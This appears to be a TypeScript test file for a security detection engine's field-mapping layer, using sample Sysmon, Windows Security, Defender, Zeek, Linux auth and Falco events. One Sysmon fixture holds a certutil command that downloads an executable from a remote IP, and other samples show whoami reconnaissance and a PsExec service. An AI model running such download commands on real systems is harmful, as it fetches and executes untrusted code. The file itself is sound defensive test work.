import { describe, expect, it } from "vitest";
import { createEventView } from "../../../worker/detect/event-view.ts";
import { FIELD_MAP } from "../../../worker/sources/field-map.ts";
import ecsDotted from "../../fixtures/ingest/ecs-winlogbeat-sysmon-dotted.json" with { type: "json" };
import ecsNested from "../../fixtures/ingest/ecs-winlogbeat-sysmon-nested.json" with { type: "json" };
import evtxSystem from "../../fixtures/ingest/evtx-json-system-data-array.json" with { type: "json" };
import falcoAlert from "../../fixtures/ingest/falco-alert.json" with { type: "json" };
import { prepared } from "./support/prepared.ts";

const sysmonProcess = {
  Channel: "Microsoft-Windows-Sysmon/Operational",
  EventID: 1,
  Computer: "ws01.corp.local",
  UtcTime: "2026-11-23 08:00:00.000",
  Image: "C:\\Windows\\System32\\certutil.exe",
  CommandLine: "certutil -urlcache -f http://203.0.113.9/a.exe a.exe",
  ParentImage: "C:\\Windows\\System32\\cmd.exe",
  User: "CORP\\alice",
};

const securityProcess = {
  Channel: "Security",
  EventID: 4688,
  Computer: "ws01.corp.local",
  TimeCreated: "2026-11-23T08:00:00Z",
  NewProcessName: "C:\\Windows\\System32\\whoami.exe",
  ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
  CommandLine: "whoami /all",
  SubjectUserName: "alice",
};

const securityLogon = {
  Channel: "Security",
  EventID: 4624,
  Computer: "dc01",
  TimeCreated: "2026-11-23T08:00:00Z",
  TargetUserName: "bob",
  SubjectUserName: "DC01$",
  ProcessName: "C:\\Windows\\System32\\lsass.exe",
  IpAddress: "203.0.113.5",
  IpPort: "50522",
  LogonType: 3,
};

const defenderDetection = {
  Event: {
    System: {
      Provider: { "#attributes": { Name: "Microsoft-Windows-Windows Defender" } },
      EventID: 1116,
      TimeCreated: { "#attributes": { SystemTime: "2026-04-17T04:14:33.653414Z" } },
      Channel: "Microsoft-Windows-Windows Defender/Operational",
      Computer: "ws01",
    },
    EventData: {
      "Threat Name": "Tool:Win32/EICAR_Test_File",
      "Process Name": "C:\\Users\\bob\\Downloads\\RedSun.exe",
      Path: "file:_C:\\Users\\bob\\AppData\\Local\\Temp\\TieringEngineService.exe",
    },
  },
};

describe("the event view of Windows events", () => {
  it("answers Sysmon names natively and ECS names from the same values", () => {
    const view = createEventView(prepared(sysmonProcess), FIELD_MAP);
    expect(view.get("Image")).toBe(sysmonProcess.Image);
    expect(view.get("process.executable")).toBe(sysmonProcess.Image);
    expect(view.get("process.command_line")).toBe(sysmonProcess.CommandLine);
    expect(view.get("process.parent.executable")).toBe(sysmonProcess.ParentImage);
    expect(view.get("host.name")).toBe("ws01.corp.local");
    expect(view.get("event.dataset")).toBe("windows.sysmon_operational");
    expect(view.get("event.code")).toBe("1");
  });

  it("answers Sysmon names from a 4688 event's Security names", () => {
    const view = createEventView(prepared(securityProcess), FIELD_MAP);
    expect(view.get("Image")).toBe(securityProcess.NewProcessName);
    expect(view.get("ParentImage")).toBe(securityProcess.ParentProcessName);
    expect(view.get("CommandLine")).toBe("whoami /all");
    expect(view.get("EventID")).toBe(4688);
  });

  it("does not answer Image with a logon's ProcessName, but user.name with the account logging on", () => {
    const view = createEventView(prepared(securityLogon), FIELD_MAP);
    expect(view.get("Image")).toBeUndefined();
    expect(view.get("process.executable")).toBe(securityLogon.ProcessName);
    expect(view.get("user.name")).toBe("bob");
    expect(view.get("SourceIp")).toBe("203.0.113.5");
    expect(view.get("source.ip")).toBe("203.0.113.5");
    expect(view.get("source.port")).toBe(50522);
    expect(view.get("LogonType")).toBe(3);
  });

  it("reads nested evtx_dump Data elements and System attributes by their Sigma names", () => {
    const view = createEventView(prepared(evtxSystem), FIELD_MAP);
    expect(view.get("ServiceName")).toBe("PSEXESVC");
    expect(view.get("ImagePath")).toBe("%SystemRoot%\\PSEXESVC.exe");
    expect(view.get("Provider_Name")).toBe("Service Control Manager");
    expect(view.get("EventID")).toBe(7045);
  });

  it("answers names written without spaces from fields named with spaces", () => {
    const view = createEventView(prepared(defenderDetection), FIELD_MAP);
    expect(view.get("ThreatName")).toBe("Tool:Win32/EICAR_Test_File");
    expect(view.get("ProcessName")).toBe("C:\\Users\\bob\\Downloads\\RedSun.exe");
  });

  it("answers the antivirus category's Signature and Filename from Defender's Threat Name and Path", () => {
    const view = createEventView(prepared(defenderDetection), FIELD_MAP);
    expect(view.get("Signature")).toBe("Tool:Win32/EICAR_Test_File");
    expect(view.get("Filename")).toBe(defenderDetection.Event.EventData.Path);
  });

  it("answers Sigma names from Winlogbeat documents, nested or dotted, with a numeric EventID", () => {
    for (const record of [ecsNested, ecsDotted]) {
      const view = createEventView(prepared(record), FIELD_MAP);
      expect(view.get("Image")).toBe("C:\\Windows\\System32\\certutil.exe");
      expect(view.get("winlog.event_data.Image")).toBe("C:\\Windows\\System32\\certutil.exe");
      expect(view.get("User")).toBe("CORP\\alice");
      expect(view.get("EventID")).toBe(1);
      expect(view.get("Channel")).toBe("Microsoft-Windows-Sysmon/Operational");
      expect(view.get("Provider_Name")).toBe("Microsoft-Windows-Sysmon");
    }
  });

  it("answers Sigma names from PocketSIEM agent items", () => {
    const item = {
      date: "/Date(1700000002000)/",
      host: "PC01",
      image: "C:\\Windows\\System32\\whoami.exe",
      command_line: "whoami /all",
      parent_image: "C:\\Windows\\System32\\cmd.exe",
      parent_command_line: "cmd.exe /c whoami /all",
      process_user: "PC01\\bob",
    };
    const view = createEventView(prepared(item, "pocketsiem.processes"), FIELD_MAP);
    expect(view.get("Image")).toBe(item.image);
    expect(view.get("ParentCommandLine")).toBe(item.parent_command_line);
    expect(view.get("User")).toBe("PC01\\bob");
    expect(view.get("EventID")).toBe(1);
    expect(view.get("Computer")).toBe("PC01");
  });
});

describe("the event view of other sources", () => {
  it("answers Sigma names from an ECS document's ECS fields, EventID as a number", () => {
    const view = createEventView(
      prepared({
        "@timestamp": "2026-11-23T08:00:00Z",
        event: { code: "4688", dataset: "windows.security" },
        process: { executable: "C:\\x\\a.exe", command_line: "a.exe -x", parent: { executable: "C:\\p.exe" } },
        user: { name: "alice" },
      }),
      FIELD_MAP,
    );
    expect(view.get("Image")).toBe("C:\\x\\a.exe");
    expect(view.get("NewProcessName")).toBe("C:\\x\\a.exe");
    expect(view.get("CommandLine")).toBe("a.exe -x");
    expect(view.get("ParentImage")).toBe("C:\\p.exe");
    expect(view.get("User")).toBe("alice");
    expect(view.get("EventID")).toBe(4688);
  });

  it("answers Sysmon, ECS and web-log names from Zeek logs", () => {
    const view = createEventView(
      prepared({
        ts: 1700000000.5,
        _path: "http",
        "id.orig_h": "10.0.0.5",
        "id.orig_p": 50000,
        "id.resp_h": "93.184.216.34",
        "id.resp_p": 80,
        method: "POST",
        host: "example.com",
        uri: "/upload.php?x=1",
        user_agent: "curl/8.0",
        status_code: 200,
      }),
      FIELD_MAP,
    );
    expect(view.get("SourceIp")).toBe("10.0.0.5");
    expect(view.get("source.ip")).toBe("10.0.0.5");
    expect(view.get("DestinationPort")).toBe(80);
    expect(view.get("destination.ip")).toBe("93.184.216.34");
    expect(view.get("id.resp_p")).toBe(80);
    expect(view.get("cs-method")).toBe("POST");
    expect(view.get("c-uri")).toBe("/upload.php?x=1");
    expect(view.get("cs-host")).toBe("example.com");
    expect(view.get("c-useragent")).toBe("curl/8.0");
    expect(view.get("sc-status")).toBe(200);
  });

  it("answers Zeek names from a Sysmon network connection", () => {
    const view = createEventView(
      prepared({
        Channel: "Microsoft-Windows-Sysmon/Operational",
        EventID: 3,
        UtcTime: "2026-11-23 08:00:00.000",
        SourceIp: "10.0.0.5",
        SourcePort: 50000,
        DestinationIp: "93.184.216.34",
        DestinationPort: 443,
      }),
      FIELD_MAP,
    );
    expect(view.get("id.orig_h")).toBe("10.0.0.5");
    expect(view.get("id.resp_p")).toBe(443);
  });

  it("answers User, IpAddress and CommandLine from Linux auth lines", () => {
    const logon = createEventView(
      prepared({
        message: "Nov 23 08:00:00 web1 sshd[411]: Failed password for root from 203.0.113.5 port 50522 ssh2",
      }),
      FIELD_MAP,
    );
    expect(logon.get("User")).toBe("root");
    expect(logon.get("IpAddress")).toBe("203.0.113.5");
    expect(logon.get("source.ip")).toBe("203.0.113.5");
    const sudo = createEventView(
      prepared({
        message: "Nov 23 08:00:01 web1 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -a",
      }),
      FIELD_MAP,
    );
    expect(sudo.get("CommandLine")).toBe("/usr/bin/id -a");
    expect(sudo.get("Image")).toBe("/usr/bin/id");
  });

  it("answers Sigma names from Falco's own field names", () => {
    const view = createEventView(prepared(falcoAlert, "falco"), FIELD_MAP);
    expect(view.get("CommandLine")).toBe("bash -il");
    expect(view.get("Image")).toBe("/usr/bin/bash");
    expect(view.get("User")).toBe("root");
  });

  it("answers a PocketSIEM ssh login's user, and no Object.prototype member for any name", () => {
    const view = createEventView(
      prepared(
        {
          date: "2026-11-23 08:00:00",
          host: "web1",
          osuser: " bob ",
          logon_type: "203.0.113.5",
          process_name: "Failed",
        },
        "pocketsiem.sshlogin",
      ),
      FIELD_MAP,
    );
    expect(view.get("User")).toBe("bob");
    expect(view.get("constructor")).toBeUndefined();
    expect(view.get("__proto__")).toBeUndefined();
    expect(view.get("toString")).toBeUndefined();
  });
});

describe("field resolution", () => {
  it("lets a native field win over its aliases", () => {
    const view = createEventView(
      prepared({ ...sysmonProcess, "process.executable": "C:\\other.exe", NewProcessName: "C:\\third.exe" }),
      FIELD_MAP,
    );
    expect(view.get("Image")).toBe(sysmonProcess.Image);
    expect(view.get("process.executable")).toBe("C:\\other.exe");
    expect(view.get("NewProcessName")).toBe("C:\\third.exe");
  });

  it("matches field names case-insensitively when no exact name is present", () => {
    const view = createEventView(prepared(sysmonProcess), FIELD_MAP);
    expect(view.get("commandline")).toBe(sysmonProcess.CommandLine);
    expect(view.get("PARENTIMAGE")).toBe(sysmonProcess.ParentImage);
  });

  it("answers undefined for an absent field and null for a present empty one", () => {
    const view = createEventView(prepared({ ...sysmonProcess, ParentCommandLine: null }), FIELD_MAP);
    expect(view.get("OriginalFileName")).toBeUndefined();
    expect(view.getLower("OriginalFileName")).toBeUndefined();
    expect(view.get("ParentCommandLine")).toBeNull();
    expect(view.getLower("ParentCommandLine")).toBeNull();
  });

  it("gives lower-cased text, lists as lists and numbers as text", () => {
    const view = createEventView(
      prepared({
        "@timestamp": "2026-11-23T08:00:00Z",
        event: { code: "1", category: ["Process", "Start"] },
        process: { executable: "C:\\Windows\\CMD.EXE" },
      }),
      FIELD_MAP,
    );
    expect(view.getLower("Image")).toBe("c:\\windows\\cmd.exe");
    expect(view.getLower("event.category")).toEqual(["process", "start"]);
    expect(view.getLower("EventID")).toBe("1");
  });
});

describe("text for keyword and simple-rule search", () => {
  it("lists every field value as text", () => {
    const view = createEventView(prepared(securityLogon), FIELD_MAP);
    expect(view.values()).toEqual(expect.arrayContaining(["Security", "4624", "bob", "203.0.113.5", "3"]));
  });

  it("gives a process event's command line as its detail text, lower-cased, without the image", () => {
    const view = createEventView(
      prepared({ ...sysmonProcess, Image: "C:\\Temp\\Renamed.exe", CommandLine: "Renamed.exe Foo.DLL,Run" }),
      FIELD_MAP,
    );
    expect(view.detailText()).toBe("renamed.exe foo.dll,run");
  });

  it("gives a file event's target file and a registry event's key and value as detail text", () => {
    const file = createEventView(
      prepared({
        Channel: "Microsoft-Windows-Sysmon/Operational",
        EventID: 11,
        UtcTime: "2026-11-23 08:00:00.000",
        Image: "C:\\Windows\\explorer.exe",
        TargetFilename: "C:\\Users\\Public\\Evil.LNK",
      }),
      FIELD_MAP,
    );
    expect(file.detailText()).toBe("c:\\users\\public\\evil.lnk");
    const registry = createEventView(
      prepared({
        Channel: "Microsoft-Windows-Sysmon/Operational",
        EventID: 13,
        UtcTime: "2026-11-23 08:00:00.000",
        TargetObject: "HKLM\\Software\\Run\\x",
        Details: "C:\\x.exe",
      }),
      FIELD_MAP,
    );
    expect(registry.detailText()).toBe("hklm\\software\\run\\x\nc:\\x.exe");
  });
});
